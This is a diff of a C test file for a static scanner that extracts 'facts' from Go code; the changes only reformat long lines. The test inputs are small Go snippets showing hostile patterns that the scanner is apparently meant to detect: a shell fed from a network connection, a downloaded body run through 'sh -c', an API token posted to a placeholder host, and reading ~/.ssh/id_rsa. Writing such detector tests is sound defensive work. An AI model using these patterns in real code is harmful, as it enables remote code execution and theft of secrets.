@@ -3,7 +3,9 @@
 
 #include "scan/go_names.h"
 
-#define GO(imports, body) facts_of_bytes(LANG_GO, "package main\nimport (\n" imports "\n)\n" body, sizeof("package main\nimport (\n" imports "\n)\n" body) - 1)
+#define GO(imports, body)                                                    \
+    facts_of_bytes(LANG_GO, "package main\nimport (\n" imports "\n)\n" body, \
+                   sizeof("package main\nimport (\n" imports "\n)\n" body) - 1)
 
 TEST(go_the_table_of_functions_is_sorted)
 {
@@ -34,7 +36,8 @@ TEST(go_calls_are_named_by_package_whatever_the_alias)
 
 TEST(go_a_command_is_told_with_all_its_arguments)
 {
-    GO("\"os/exec\"\n\"context\"", "func main() { a := []string{\"-c\", \"id\"}; exec.CommandContext(context.TODO(), \"sh\", a...).Run() }");
+    GO("\"os/exec\"\n\"context\"",
+       "func main() { a := []string{\"-c\", \"id\"}; exec.CommandContext(context.TODO(), \"sh\", a...).Run() }");
     CHECK(facts_have("call os/exec.CommandContext(sh, -c, id)"));
     CHECK(facts_have("call os/exec.Cmd.Run()"));
 }
@@ -70,8 +73,9 @@ TEST(go_constants_are_folded)
 
 TEST(go_places_have_plain_names)
 {
-    GO("\"os\"\n\"path/filepath\"", "func main() { h, _ := os.UserHomeDir(); os.Open(filepath.Join(h, \".ssh\", \"id_rsa\")); os.Open(os.Getenv(\"HOME\") + \"/x\");\n"
-       "d, _ := os.MkdirTemp(\"\", \"\"); os.RemoveAll(d) }");
+    GO("\"os\"\n\"path/filepath\"", "func main() { h, _ := os.UserHomeDir(); os.Open(filepath.Join(h, \".ssh\", "
+                                    "\"id_rsa\")); os.Open(os.Getenv(\"HOME\") + \"/x\");\n"
+                                    "d, _ := os.MkdirTemp(\"\", \"\"); os.RemoveAll(d) }");
     CHECK(facts_have("call os.Open(~/.ssh/id_rsa)"));
     CHECK(facts_have("call os.Open(~/x)"));
     CHECK(facts_have("call os.RemoveAll(/tmp/{})"));
@@ -80,7 +84,8 @@ TEST(go_places_have_plain_names)
 
 TEST(go_parameters_learn_from_calls_below_them)
 {
-    GO("\"os/exec\"", "func run(c string) { exec.Command(\"sh\", \"-c\", c).Run() }\nfunc main() { run(\"id\" + \" -u\") }");
+    GO("\"os/exec\"",
+       "func run(c string) { exec.Command(\"sh\", \"-c\", c).Run() }\nfunc main() { run(\"id\" + \" -u\") }");
     CHECK(facts_have("call os/exec.Command(sh, -c, id -u)"));
     GO("\"os/exec\"", "func main() { exec.Command(name()).Run() }\nfunc name() string { return \"/bin/\" + \"sh\" }");
     CHECK(facts_have("call os/exec.Command(/bin/sh)"));
@@ -88,11 +93,13 @@ TEST(go_parameters_learn_from_calls_below_them)
 
 TEST(go_a_connection_as_standard_input_is_seen_however_it_is_set)
 {
-    GO("\"net\"\n\"os/exec\"", "type s struct { c net.Conn }\nfunc (x *s) f() { cmd := exec.Command(\"sh\"); cmd.Stdin = x.c; cmd.Run() }");
+    GO("\"net\"\n\"os/exec\"",
+       "type s struct { c net.Conn }\nfunc (x *s) f() { cmd := exec.Command(\"sh\"); cmd.Stdin = x.c; cmd.Run() }");
     CHECK(facts_have("flow socket-to-process()"));
     GO("\"net\"\n\"os/exec\"", "func f(c net.Conn) { (&exec.Cmd{Path: \"/bin/sh\", Stdin: c}).Run() }");
     CHECK(facts_have("flow socket-to-process()"));
-    GO("\"net\"\n\"io\"\n\"os/exec\"", "func f(c net.Conn) { cmd := exec.Command(\"sh\"); p, _ := cmd.StdinPipe(); io.Copy(p, c) }");
+    GO("\"net\"\n\"io\"\n\"os/exec\"",
+       "func f(c net.Conn) { cmd := exec.Command(\"sh\"); p, _ := cmd.StdinPipe(); io.Copy(p, c) }");
     CHECK(facts_have("flow socket-to-process()"));
     GO("\"os\"\n\"os/exec\"", "func f() { cmd := exec.Command(\"sh\"); cmd.Stdin = os.Stdin; cmd.Run() }");
     CHECK(!facts_mention("flow"));
@@ -106,7 +113,8 @@ TEST(go_loops_without_end_are_told_apart_from_servers_and_readers)
     CHECK(facts_have("flow thread-loop()"));
     GO("\"fmt\"", "func main() { var a []string; for { a = append(a, \"x\") } }");
     CHECK(facts_have("flow endless-alloc()"));
-    GO("\"bufio\"\n\"os\"", "func main() { r := bufio.NewReader(os.Stdin); for { l, err := r.ReadString('\\n'); if err != nil { break }; println(l) } }");
+    GO("\"bufio\"\n\"os\"", "func main() { r := bufio.NewReader(os.Stdin); for { l, err := r.ReadString('\\n'); if err "
+                            "!= nil { break }; println(l) } }");
     CHECK(!facts_mention("flow"));
     GO("\"fmt\"", "func main() { c := make(chan int); go func() { for { c <- 1 } }(); for { fmt.Println(<-c) } }");
     CHECK(!facts_mention("flow"));
@@ -114,15 +122,18 @@ TEST(go_loops_without_end_are_told_apart_from_servers_and_readers)
 
 TEST(go_what_came_from_the_network_is_followed_into_commands)
 {
-    GO("\"io\"\n\"net/http\"\n\"os/exec\"", "func main() { r, _ := http.Get(\"http://x\"); b, _ := io.ReadAll(r.Body); exec.Command(\"sh\", \"-c\", string(b)).Run() }");
+    GO("\"io\"\n\"net/http\"\n\"os/exec\"", "func main() { r, _ := http.Get(\"http://x\"); b, _ := io.ReadAll(r.Body); "
+                                            "exec.Command(\"sh\", \"-c\", string(b)).Run() }");
     CHECK(facts_have("flow download-then-exec()"));
-    GO("\"net/http\"\n\"os\"\n\"strings\"", "func main() { http.Post(\"http://x\", \"t\", strings.NewReader(os.Getenv(\"API_TOKEN\"))) }");
+    GO("\"net/http\"\n\"os\"\n\"strings\"",
+       "func main() { http.Post(\"http://x\", \"t\", strings.NewReader(os.Getenv(\"API_TOKEN\"))) }");
     CHECK(facts_have("flow secret-then-send()"));
 }
 
 TEST(go_comments_and_names_of_the_program_itself_are_no_facts)
 {
-    GO("\"fmt\"", "// exec.Command(\"sh\")\ntype exec struct{}\nfunc (exec) Command(s string) {}\nfunc main() { var e exec; e.Command(\"sh\"); fmt.Println(\"os.RemoveAll\") }");
+    GO("\"fmt\"", "// exec.Command(\"sh\")\ntype exec struct{}\nfunc (exec) Command(s string) {}\nfunc main() { var e "
+                  "exec; e.Command(\"sh\"); fmt.Println(\"os.RemoveAll\") }");
     CHECK(!facts_mention("call os"));
     CHECK(facts_mention("string (os.RemoveAll)"));
 }
@@ -139,11 +150,14 @@ TEST(go_hostile_text_ends)
     CHECK(facts_cut);
     facts_of_bytes(LANG_GO, "package p\n\0\xff\xfe import", 21);
     facts_of_bytes(LANG_GO, "", 0);
-    facts_survive_changes(LANG_GO,
-                          "package main\nimport (\n\"net\"\n\"os\"\nx \"os/exec\"\n)\nconst h = \"a\" + `b`\ntype s struct { c net.Conn }\n"
-                          "func (p *s) run(a string, b ...string) (string, error) { c := x.Command(a, b...); c.Stdin = p.c; return a[1:2] + h, c.Run() }\n"
-                          "func main() { for i := 0; i < 3; i++ { go func(f string) { os.RemoveAll(f) }(os.Args[i]) }\n"
-                          "var m = map[string][]byte{\"k\": {1, 'c', 0x2f}}; for k, v := range m { println(k, string(v)) }\n"
-                          "switch y := any(m).(type) { case *net.TCPConn: y.File() }; select { case <-ch: default: } }\n",
-                          400);
+    facts_survive_changes(
+        LANG_GO,
+        "package main\nimport (\n\"net\"\n\"os\"\nx \"os/exec\"\n)\nconst h = \"a\" + `b`\ntype s struct { c net.Conn "
+        "}\n"
+        "func (p *s) run(a string, b ...string) (string, error) { c := x.Command(a, b...); c.Stdin = p.c; return "
+        "a[1:2] + h, c.Run() }\n"
+        "func main() { for i := 0; i < 3; i++ { go func(f string) { os.RemoveAll(f) }(os.Args[i]) }\n"
+        "var m = map[string][]byte{\"k\": {1, 'c', 0x2f}}; for k, v := range m { println(k, string(v)) }\n"
+        "switch y := any(m).(type) { case *net.TCPConn: y.File() }; select { case <-ch: default: } }\n",
+        400);
 }
